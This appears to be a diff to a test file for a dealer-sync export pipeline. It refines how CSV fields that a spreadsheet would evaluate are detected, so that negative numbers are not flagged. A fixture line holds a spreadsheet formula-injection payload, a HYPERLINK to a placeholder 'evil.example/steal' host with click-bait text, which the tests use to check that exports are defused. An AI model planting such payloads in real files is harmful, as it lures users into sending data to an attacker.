@@ -6,6 +6,7 @@ notes, cells that fail a rule as written) and every xlsx and csv the pipeline wr
 from __future__ import annotations
 
 import csv
+import re
 from datetime import date, datetime
 from pathlib import Path
 
@@ -14,7 +15,7 @@ import pytest
 from contract_books import contract_workbook
 from typer.testing import CliRunner
 
-from dealersync.exports.cells import FORMULA_TRIGGERS
+from dealersync.exports.cells import FORMULA_TRIGGERS, PLAIN_NUMBER
 
 TODAY = date(2026, 3, 9)  # a Monday: last week's (2026-W10) quality report is written tonight
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","点我查看")'
@@ -97,7 +98,10 @@ def xlsx_texts(path: Path) -> str:
 def live_csv_fields(text: str) -> list[str]:
     """Fields of a CSV that a spreadsheet would evaluate on opening."""
     return [
-        field for row in csv.reader(text.splitlines()) for field in row if field.startswith(FORMULA_TRIGGERS)
+        field
+        for row in csv.reader(text.splitlines())
+        for field in row
+        if field.startswith(FORMULA_TRIGGERS) and not re.fullmatch(PLAIN_NUMBER, field)  # -5 is a number
     ]
 
 
